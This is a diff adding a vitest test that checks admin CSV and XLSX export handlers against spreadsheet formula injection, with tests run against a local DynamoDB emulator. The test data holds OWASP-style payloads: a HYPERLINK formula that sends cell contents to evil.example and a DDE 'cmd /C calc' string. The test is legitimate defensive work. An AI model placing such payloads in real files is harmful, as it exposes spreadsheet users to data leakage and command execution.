@@ -1,0 +1,160 @@
+import { PutCommand } from '@aws-sdk/lib-dynamodb'
+import { type ExportKind, exportColumns, exportKinds } from '@core/exports'
+import type { APIGatewayProxyStructuredResultV2 } from 'aws-lambda'
+import ExcelJS from 'exceljs'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import type { Engines } from '../../../infra/local/engines'
+import { startEngines } from '../../../infra/local/engines'
+import { configureEnvironment } from '../../../infra/local/server'
+import { tables } from '../../../infra/tables'
+import { parseCsv } from '../../support/csv'
+import { apiEvent, lambdaContext } from '../../support/events'
+import { writeFigures } from '../../support/figures'
+import { temporaryDataDir } from '../../support/local-server'
+import { countFormulaCells, openWorkbook } from '../../support/xlsx'
+
+/**
+ * Issue 9, item 6: the OWASP formula triggers at the start of EVERY field of every kind, stored in dynalite,
+ * exported through the real handlers: each CSV cell comes back neutralised (a leading apostrophe), and the
+ * XLSX holds no formula cell at all.
+ */
+type Handler = (event: unknown, context: unknown) => Promise<APIGatewayProxyStructuredResultV2>
+
+/** = + - @, tab, CR, and the full-width ＝ ＋ － ＠. */
+const triggers = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'] as const
+/** What follows the trigger: formulas and DDE payloads of the OWASP page, and a plain word. */
+const payloads = [
+  'HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "cmd|' /C calc'!A0",
+  '1+1',
+  'SUM(1+1)*cmd|x',
+]
+
+/** A field an item may have beyond the known columns (its header comes from the stored attribute name). */
+const extraField = 'source'
+/** An attribute NAME that starts with a trigger: it becomes a header cell. */
+const hostileFieldName = '=HYPERLINK("http://evil.example","x")'
+
+const storage: Record<ExportKind, { table: 'leads' | 'content'; pk: string }> = {
+  quotes: { table: 'leads', pk: 'QUOTE' },
+  contacts: { table: 'leads', pk: 'CONTACT' },
+  newsletter: { table: 'leads', pk: 'NEWSLETTER' },
+  jobs: { table: 'content', pk: 'JOB' },
+  resources: { table: 'content', pk: 'RESOURCE' },
+}
+
+let engines: Engines
+let removeData: () => Promise<void>
+let exportKind: Handler
+let exportAll: Handler
+let authorization: Record<string, string>
+/** The hostile values stored, per kind: every one must come back neutralised. */
+const stored: Record<string, string[]> = {}
+
+beforeAll(async () => {
+  const data = await temporaryDataDir()
+  removeData = data.remove
+  engines = await startEngines(data.dir)
+  await configureEnvironment(engines, data.dir)
+  vi.spyOn(console, 'info').mockImplementation(() => undefined)
+  const { dynamo } = await import('../../../functions/lib/clients')
+  exportKind = (await import('../../../functions/admin/export-kind')).handler as Handler
+  exportAll = (await import('../../../functions/admin/export-all')).handler as Handler
+  authorization = await (await import('../../support/tokens')).adminAuthorization()
+
+  // One item per trigger and kind; every field (the known columns, `id` and `createdAt` included, an extra
+  // field, and an attribute with a hostile name) starts with the trigger.
+  let sequence = 0
+  for (const kind of exportKinds) {
+    stored[kind] = []
+    const { table, pk } = storage[kind]
+    for (const [index, trigger] of triggers.entries()) {
+      const item: Record<string, unknown> = {}
+      for (const column of [...exportColumns[kind].map((known) => known.key), extraField, hostileFieldName]) {
+        const value = `${trigger}${payloads[sequence++ % payloads.length]}`
+        item[column] = value
+        stored[kind].push(value)
+      }
+      const sortKey = `2026-11-22T10:00:${String(index).padStart(2, '0')}.000Z#${kind}-${index}`
+      await dynamo().send(
+        new PutCommand({
+          TableName: tables[table].localName,
+          Item: { ...item, [tables[table].partitionKey]: pk, [tables[table].sortKey]: sortKey },
+        }),
+      )
+    }
+  }
+})
+
+afterAll(async () => {
+  vi.restoreAllMocks()
+  await engines?.close()
+  await removeData?.()
+})
+
+const admin = () => ({ authorization: authorization.authorization ?? '' })
+
+/** The first character of a cell a spreadsheet program would take as the start of a formula. */
+const startsFormula = (text: string) => triggers.some((trigger) => text.startsWith(trigger))
+
+const figures = {
+  triggers: triggers.length,
+  kinds: exportKinds.length,
+  csvCells: 0,
+  xlsxCells: 0,
+  formulaCells: 0,
+}
+afterAll(() => {
+  if (figures.csvCells > 0) writeFigures('exports', figures)
+})
+
+describe('formula injection in the exports (real handlers on dynalite)', () => {
+  it.each(exportKinds)('%s.csv: every cell that would start a formula is neutralised', async (kind) => {
+    const reply = await exportKind(
+      apiEvent('admin-export-kind', { headers: admin(), pathParameters: { kind } }),
+      lambdaContext,
+    )
+    expect(reply.statusCode).toBe(200)
+    const rows = parseCsv(String(reply.body).replace(/^\uFEFF/, ''))
+    const [header, ...body] = rows
+    expect(body).toHaveLength(triggers.length)
+    const cells = [...(header ?? []), ...body.flat()]
+    figures.csvCells += cells.length
+    expect(cells.filter(startsFormula)).toEqual([])
+    // Each stored value is there, with an apostrophe in front and otherwise unchanged.
+    const bodyCells = new Set(body.flat())
+    for (const value of stored[kind] ?? [])
+      expect(bodyCells.has(`'${value}`), JSON.stringify(value)).toBe(true)
+    // The hostile attribute name is a header, neutralised too.
+    expect(header).toContain(`'${hostileFieldName}`)
+  })
+
+  it('forms-export.xlsx: 0 formula cells, every value a neutralised string', async () => {
+    const reply = await exportAll(apiEvent('admin-export-all', { headers: admin() }), lambdaContext)
+    expect(reply.statusCode).toBe(200)
+    expect(reply.isBase64Encoded).toBe(true)
+    const workbook = await openWorkbook(Buffer.from(String(reply.body), 'base64'))
+    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([...exportKinds])
+    figures.formulaCells = countFormulaCells(workbook)
+    expect(figures.formulaCells).toBe(0)
+    for (const kind of exportKinds) {
+      const sheet = workbook.getWorksheet(kind)!
+      expect(sheet.rowCount).toBe(triggers.length + 1)
+      const texts = new Set<string>()
+      sheet.eachRow((row) => {
+        row.eachCell((cell) => {
+          figures.xlsxCells += 1
+          // Strings only (no formula, no hyperlink, no rich text object), and none starts a formula.
+          expect(cell.type, `${kind} ${cell.address}`).toBe(ExcelJS.ValueType.String)
+          expect(startsFormula(String(cell.value)), `${kind} ${cell.address}`).toBe(false)
+          texts.add(String(cell.value))
+        })
+      })
+      // XML reads a lone CR back as LF (its end-of-line rule); the apostrophe in front is what matters.
+      const asXmlReadsIt = (text: string) => text.replace(/\r\n?/g, '\n')
+      for (const value of stored[kind] ?? []) {
+        expect(texts.has(asXmlReadsIt(`'${value}`)), JSON.stringify(value)).toBe(true)
+      }
+    }
+  })
+})
